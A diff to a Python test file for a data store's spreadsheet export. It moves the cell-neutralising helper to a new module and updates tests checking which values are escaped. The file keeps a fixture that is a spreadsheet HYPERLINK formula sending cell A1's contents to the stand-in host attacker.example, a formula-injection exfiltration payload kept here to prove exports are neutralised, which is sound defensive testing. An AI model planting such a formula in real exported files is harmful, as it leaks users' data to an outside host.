@@ -21,6 +21,7 @@ from conftest import STTTT, make_plan, mention
 from schemas.records import Provenance, Task, Timeframe
 from store import export
 from store.cli import cli
+from store.formats.cells import neutralise_cell
 from store.ingest import save_result
 
 LINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
@@ -110,12 +111,12 @@ def test_checklist_xlsx_has_no_formula(hostile_db: str, tmp_path: Path) -> None:
 
 
 def test_numbers_and_plain_text_are_left_alone() -> None:
-    assert export.neutralise_cell("-5") == "-5"
-    assert export.neutralise_cell("+2.5") == "+2.5"
-    assert export.neutralise_cell("-1+2") == "'-1+2"
-    assert export.neutralise_cell("Sở Y tế") == "Sở Y tế"
-    assert export.neutralise_cell(40.0) == 40.0
-    assert export.neutralise_cell(None) is None
+    assert neutralise_cell("-5") == "-5"
+    assert neutralise_cell("+2.5") == "+2.5"
+    assert neutralise_cell("-1+2") == "'-1+2"
+    assert neutralise_cell("Sở Y tế") == "Sở Y tế"
+    assert neutralise_cell(40.0) == 40.0
+    assert neutralise_cell(None) is None
 
 
 def test_xlsx_export_drops_control_characters_instead_of_failing(tmp_path: Path) -> None:
